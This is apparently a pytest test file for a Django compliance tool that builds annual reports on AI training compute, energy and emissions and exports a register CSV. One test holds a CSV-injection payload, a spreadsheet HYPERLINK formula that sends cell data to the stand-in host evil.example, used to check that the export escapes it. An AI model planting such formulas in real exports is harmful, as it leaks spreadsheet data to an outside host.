import csv
import io
import json
import re
from datetime import UTC, datetime
from decimal import Decimal
from io import StringIO

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext

from compliance.models import LargeRunEntry
from compliance.reports import annual_report
from systems.models import Partition
from tests.compliance.test_check_thresholds import TODAY, check, seconds_for
from tests.conftest import client_for
from tests.factories import (
    make_allocation,
    make_cluster,
    make_organisation,
    make_usage_record,
)


@pytest.fixture
def year_of_usage(reference_data):
    org = make_organisation(legal_name="Company FI-REPORT-1", registration_id="FI-REPORT-1")
    big = make_allocation(
        organisation=org,
        cluster="jupiter",
        account="big_llm",
        gpu_hours=1_000_000,
        model_name="aurora-70b",
    )
    small = make_allocation(organisation=org, cluster="vega", account="small_ft", gpu_hours=1_000)
    for alloc, seconds in ((big, seconds_for(3e23, "jupiter")), (small, 500 * 3600)):
        record = make_usage_record(allocation=alloc, gpu_seconds=seconds)
        record.start = f"{TODAY.year}-02-01T10:00:00Z"
        record.save()
    return big, small


def _report(*args) -> dict:
    out = StringIO()
    call_command("annual_report", "--year", str(TODAY.year), "--format", "json", *args, stdout=out)
    return json.loads(out.getvalue())


def test_report_counts_efforts_per_band_and_sums_by_system(year_of_usage):
    data = _report()
    assert data["efforts_per_band"] == {"below_gpai": 1, "gpai": 1, "systemic_risk": 0}
    systems = {row["label"]: row for row in data["by_system"]}
    assert systems["Vega"]["gpu_hours"] == 500
    # 500 GPU-hours x 400 W = 200 kWh IT energy; Vega's PUE 1.2 and 0.25 kg/kWh.
    assert systems["Vega"]["energy_kwh"] == pytest.approx(200)
    assert systems["Vega"]["co2e_kg"] == pytest.approx(200 * 1.2 * 0.25)
    assert systems["JUPITER"]["flop"] == pytest.approx(3e23, rel=0.01)
    assert data["total"]["gpu_hours"] == pytest.approx(
        systems["Vega"]["gpu_hours"] + systems["JUPITER"]["gpu_hours"], abs=0.2
    )


def test_each_job_counts_at_the_peak_and_power_of_the_partition_it_ran_on(reference_data):
    fox = make_cluster()  # its 'accel' partition: 312 TFLOP/s and 400 W per GPU
    bigmem = Partition.objects.create(
        cluster=fox,
        name="bigmem",
        accelerator="Bench GPU",
        gpus_per_node=4,
        nodes=2,
        peak_tflops=Decimal("100.00"),
        power_watts=1000,
    )
    allocation = make_allocation(
        organisation=make_organisation(registration_id="NO-REPORT-1"), cluster=fox, account="fox_ft"
    )
    february = datetime(TODAY.year, 2, 1, 10, tzinfo=UTC)
    for seconds, partition, joules in (
        (3600, allocation.partition, None),
        (7200, bigmem, None),
        (3600, bigmem, 5_000_000),  # measured by the scheduler
        (1800, None, None),  # on a partition not known here: the allocation's
    ):
        make_usage_record(
            allocation=allocation,
            gpu_seconds=seconds,
            partition=partition,
            energy_joules=joules,
            start=february,
        )
    make_usage_record(allocation=allocation, start=datetime(TODAY.year - 1, 12, 31, 12, tzinfo=UTC))

    report = annual_report(year=TODAY.year)

    (row,) = report.by_system
    assert row.label == "Fox"
    assert row.gpu_hours == pytest.approx((3600 + 7200 + 3600 + 1800) / 3600)
    tflop_seconds = 312 * (3600 + 1800) + 100 * (7200 + 3600)
    assert row.flop == pytest.approx(
        tflop_seconds * 1e12 * float(report.policy.default_utilisation)
    )
    joules = 400 * (3600 + 1800) + 1000 * 7200 + 5_000_000
    assert row.energy_kwh == pytest.approx(joules / 3.6e6)
    assert report.total.energy_kwh == pytest.approx(row.energy_kwh)


def test_largest_efforts_can_be_anonymised(year_of_usage):
    named = _report()["largest_efforts"]
    assert named[0]["effort"] == "aurora-70b"
    assert named[0]["systems"] == ["JUPITER"]  # named as in the table by system
    assert named[0]["organisations"] == ["Company FI-REPORT-1"]
    hidden = _report("--anonymise")["largest_efforts"]
    assert hidden[0]["effort"] == "Effort 1"
    assert hidden[0]["organisations"] == ["Organisation A"]
    assert "aurora" not in json.dumps(hidden)


def test_a_year_without_usage_reports_zeroes(year_of_usage):
    out = StringIO()
    call_command("annual_report", "--year", str(TODAY.year - 1), stdout=out)
    assert "Efforts: 0 below GPAI, 0 GPAI, 0 systemic risk" in out.getvalue()


def test_implausible_year_is_refused(db):
    with pytest.raises(CommandError, match="plausible"):
        call_command("annual_report", "--year", "1850", stdout=StringIO())


def test_report_page_is_for_governance_only(
    client, year_of_usage, governance_officer, applicant, operator
):
    url = f"/governance/annual-report/?year={TODAY.year}"
    assert client_for(client, applicant).get(url).status_code == 302
    client.logout()
    assert client_for(client, operator).get(url).status_code == 403
    client.logout()
    page = client_for(client, governance_officer).get(url)
    assert page.status_code == 200
    assert "aurora-70b" in page.content.decode()
    assert "<svg" in page.content.decode()
    anonymised = client.get(url + "&anonymise=1").content.decode()
    assert "aurora-70b" not in anonymised


def test_register_csv_lists_entries_with_two_significant_figures(
    client, year_of_usage, governance_officer
):
    check()
    assert LargeRunEntry.objects.filter(subject="aurora-70b").exists()
    response = client_for(client, governance_officer).get("/governance/register.csv")
    assert response.status_code == 200
    lines = response.content.decode().splitlines()
    assert lines[0].startswith("scope,subject,category,compute_flop")
    row = next(line for line in lines if "aurora-70b" in line and ",gpai," in line)
    assert ",3e+23," in row
    assert "jupiter:big_llm" in row


def test_register_csv_never_hands_a_spreadsheet_a_formula(
    client, reference_data, governance_officer
):
    hostile = '=HYPERLINK("http://evil.example/?"&A2,"open")'
    big = make_allocation(
        organisation=make_organisation(registration_id="FI-REPORT-2"),
        cluster="jupiter",
        account="big_llm2",
        gpu_hours=1_000_000,
        model_name=hostile,
    )
    make_usage_record(allocation=big, gpu_seconds=seconds_for(3e23, "jupiter"))
    check()
    response = client_for(client, governance_officer).get("/governance/register.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    subjects = {row["subject"] for row in rows if row["scope"] == "model"}
    assert subjects == {"'" + hostile}


def _used_allocations(count: int, start: int = 0) -> None:
    organisation = make_organisation(legal_name="Company FI-MANY", registration_id="FI-MANY")
    for number in range(start, start + count):
        allocation = make_allocation(
            organisation=organisation, cluster="vega", account=f"run_{number}", gpu_hours=1_000
        )
        make_usage_record(
            allocation=allocation, gpu_seconds=3600, start=f"{TODAY.year}-02-01T10:00:00Z"
        )


def test_report_page_and_command_take_the_same_queries_for_3_and_30_allocations(
    client, reference_data, governance_officer
):
    url = f"/governance/annual-report/?year={TODAY.year}"
    client_for(client, governance_officer)

    def queries() -> tuple[int, int, dict]:
        with CaptureQueriesContext(connection) as page:
            assert client.get(url).status_code == 200
        with CaptureQueriesContext(connection) as command:
            data = _report()
        return len(page), len(command), data

    _used_allocations(3)
    client.get(url)
    few_page, few_command, _ = queries()
    _used_allocations(27, start=3)
    many_page, many_command, data = queries()
    assert (many_page, many_command) == (few_page, few_command)
    assert data["total"]["gpu_hours"] == 30
    assert data["efforts_per_band"]["below_gpai"] == 30


def test_report_page_writes_compute_and_bands_for_people(client, year_of_usage, governance_officer):
    url = f"/governance/annual-report/?year={TODAY.year}"
    html = client_for(client, governance_officer).get(url).content.decode()
    assert " × 10" in html and "FLOP" in html
    assert not re.search(r"\de[+-]\d", html)  # no 1.9e+22
    assert "10^2" not in html and "below_gpai" not in html and "systemic_risk" not in html
    assert "10²³" in html
